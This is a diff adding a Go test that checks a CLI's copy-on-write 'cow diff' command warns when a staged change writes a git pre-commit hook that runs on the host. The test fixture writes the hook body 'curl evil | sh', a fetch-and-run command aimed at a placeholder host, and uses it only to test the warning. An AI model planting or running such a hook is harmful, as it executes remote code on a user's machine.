@@ -134,3 +134,28 @@ func TestCowOnAWorkspaceWithoutStateCreatesNone(t *testing.T) {
 		t.Fatalf("a review command created state: %v", err)
 	}
 }
+
+func TestCowDiffMarksWhatRunsOnTheHost(t *testing.T) {
+	ws := t.TempDir()
+	id := stageTx(t, ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+	code, out, errOut := runCLI(t, "cow", "diff", id, "--workspace", ws)
+	if code != exitOK {
+		t.Fatalf("diff: %d %s", code, errOut)
+	}
+	if !strings.Contains(out, ".git/hooks/pre-commit  (runs on the host)") || !strings.HasPrefix(out, "WARNING") {
+		t.Fatalf("diff does not mark the hook as running on the host:\n%s", out)
+	}
+	code, out, _ = runCLI(t, "cow", "diff", "--json", id, "--workspace", ws)
+	var res struct {
+		RunsOnHost []string `json:"runs_on_host"`
+	}
+	if err := json.Unmarshal([]byte(out), &res); code != exitOK || err != nil || len(res.RunsOnHost) != 1 || res.RunsOnHost[0] != ".git/hooks/pre-commit" {
+		t.Fatalf("json diff: %d %v %s", code, err, out)
+	}
+
+	// An ordinary file gets no banner.
+	id = stageTx(t, ws, "src/a.txt", "a\n")
+	if _, out, _ := runCLI(t, "cow", "diff", id, "--workspace", ws); strings.Contains(out, "runs on the host") {
+		t.Fatalf("an ordinary file is marked:\n%s", out)
+	}
+}
